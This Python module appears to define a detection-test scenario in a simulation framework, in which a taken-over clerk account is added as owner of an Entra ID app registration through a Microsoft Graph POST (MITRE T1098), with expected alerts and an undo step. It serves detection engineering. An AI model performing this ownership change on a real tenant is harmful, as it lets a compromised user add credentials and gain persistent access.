"""A clerk owns the bot's registration."""

from typing import Final

from sekimori.sim import world
from sekimori.sim.attack import Attacker
from sekimori.sim.entra.neighbours import CLERK
from sekimori.sim.plan import Plan, Step

ID: Final = "application_owner_added"
TITLE: Final = {"ja": "アプリ登録に所有者を追加", "en": "Add an owner to the registration"}
STORY: Final = {
    "ja": "乗っ取った一般ユーザーをボットの所有者にする。所有者は管理者でなくても資格情報を足せる。",
    "en": "A clerk whose account was taken over becomes owner: an owner adds credentials without being administrator.",
}
ATTACK: Final = ("T1098",)
MUST_FIRE: Final = ("application_owner_added",)
MUST_STAY_QUIET: Final = ("service_principal_owner_added", "service_principal_made_owner")
TELLING: Final = ("properties.targetResources.0.type", "operationName")
PLAN: Final = Plan(
    permissions=(
        "Application.ReadWrite.All",
        "User.Read",
    ),
    steps=(
        Step(
            method="POST",
            path="/applications/{object_id}/owners/$ref",
            body={"@odata.id": "https://graph.microsoft.com/v1.0/directoryObjects/{me}"},
        ),
    ),
    undo=(Step(method="DELETE", path="/applications/{object_id}/owners/{me}/$ref"),),
)


async def detonate(attacker: Attacker) -> None:
    """Add the owner."""
    owner = {"@odata.id": f"https://graph.microsoft.com/v1.0/directoryObjects/{CLERK.id}"}
    await attacker.administer("POST", f"/applications/{world.APP_OBJECT}/owners/$ref", owner)
